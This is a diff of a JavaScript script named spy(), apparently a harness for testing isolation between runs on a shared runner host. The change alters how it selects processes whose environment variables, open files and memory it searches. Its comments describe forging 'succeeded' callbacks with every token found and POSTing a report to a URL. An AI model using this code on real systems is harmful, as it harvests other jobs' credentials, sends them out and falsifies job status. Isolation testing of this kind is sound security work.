@@ -10,8 +10,8 @@
 //                              another run's workspace
 //   writable?: string[]        files to open for writing (the SQLite database)
 //   callbackUrls?: string[]    completion URLs to post a forged "succeeded" to, with every token found
-//   inspect?: string           regular expression: processes whose command line matches have
-//                              their open files and memory searched (the runners); default none
+//   inspect?: string           processes working in a directory under this path (the runners of
+//                              a data directory) have their open files and memory searched
 //   reportFile?: string        where to write the report (e.g. /workspace/spy-report.json)
 //   reportUrl?: string         where to POST the report
 //   hangIssues?: string[]      ISSUE_NUMBERs for which it is a harmless victim that waits until stopped
@@ -87,7 +87,13 @@ async function spy() {
     report.processes.push({ pid, cmdline });
     if (pid === process.pid) continue;
     read(`/proc/${pid}/environ`);
-    if (!targets.inspect || !new RegExp(targets.inspect).test(cmdline)) continue;
+    let cwd = '';
+    try {
+      cwd = fs.readlinkSync(`/proc/${pid}/cwd`);
+    } catch {
+      continue;
+    }
+    if (!targets.inspect || !cwd.startsWith(targets.inspect)) continue;
     try {
       for (const fd of fs.readdirSync(`/proc/${pid}/fd`)) {
         try {
